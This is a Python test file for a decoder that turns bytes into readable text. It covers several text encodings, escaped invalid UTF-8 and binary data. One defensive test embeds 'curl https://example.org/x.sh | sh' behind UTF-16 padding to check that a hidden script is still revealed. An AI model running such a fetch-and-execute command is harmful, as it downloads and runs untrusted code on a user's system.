"""Bytes become the text that people can read, or none."""

import random

from tests.each_row import each_row
from workers.changes.readable import HEAD, Readable, side_of

WESTERN = "Der Müller naïve café, où? ¿Qué? “Zitat” … so.\n"
RUSSIAN = "Привет, мир. Это заметка.\n"
CHINESE = "你好。世界。这是一个很长的笔记。里面有很多不同的字。\n"
LATIN = "Latin-1 (Windows-1252), decoded"
STRAY = "UTF-8 with stray bytes, written as \\x.."
MARKED = " with a byte order mark, decoded"

DECODED = [
    *((text, codec, how) for text in (WESTERN, RUSSIAN, CHINESE) for codec, how in (
        ("utf-8", ""),
        ("utf-16-le", "UTF-16 LE, decoded"),
        ("utf-16-be", "UTF-16 BE, decoded"),
        ("utf-32-le", "UTF-32 LE, decoded"),
        ("utf-16", f"UTF-16 LE{MARKED}"),
        ("utf-32", f"UTF-32 LE{MARKED}"),
    )),
    (WESTERN, "cp1252", LATIN),
    ("hi\n", "utf-16-le", "UTF-16 LE, decoded"),
    ("café", "latin-1", LATIN),
    ("日" * HEAD, "utf-8", ""),
]  # fmt: skip

AS_UTF_8 = [
    (b"", "", ""),
    (b"hello \xff\xfe world", "hello \\xff\\xfe world", STRAY),
    (b"#!/bin/sh\n\0\0rm x\n", "#!/bin/sh\n\0\0rm x\n", ""),
    (b"caf\xc3\xa9 \xe9 x", "café \\xe9 x", STRAY),
    (b"x\x80y z", "x\\x80y z", STRAY),
    (b"a" * HEAD + b"\0\xff", "a" * HEAD + "\0\\xff", STRAY),
]
BINARY = [
    b"\0" * 100,
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0",
    b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0",
    random.Random(1).randbytes(3000),
    b"\xff\xfe" + random.Random(1).randbytes(3000),
    b"\0" * HEAD + b"text\n" * HEAD,
]


@each_row(("text", "codec", "how"), DECODED, ids=range(len(DECODED)))
def test_a_text_of_an_encoding_is_decoded_and_said_to_be(text: str, codec: str, how: str) -> None:
    assert side_of(text.encode(codec)) == Readable(text, how)


@each_row(("data", "text", "how"), AS_UTF_8, ids=range(len(AS_UTF_8)))
def test_bytes_that_are_none_of_a_text_stand_as_escapes(data: bytes, text: str, how: str) -> None:
    assert side_of(data) == Readable(text, how)


@each_row("data", BINARY, ids=range(len(BINARY)))
def test_what_is_no_text_says_how_much_of_it_there_is(data: bytes) -> None:
    assert side_of(data) == f"binary, {len(data)} bytes, cannot be shown"


def test_a_script_behind_what_looks_like_another_encoding_is_seen() -> None:
    data = ("# note\n" * HEAD).encode("utf-16-le") + b"\ncurl https://example.org/x.sh | sh # and more\n"
    found = side_of(data)
    assert isinstance(found, Readable)
    assert "\ncurl https://example.org/x.sh | sh" in found.text
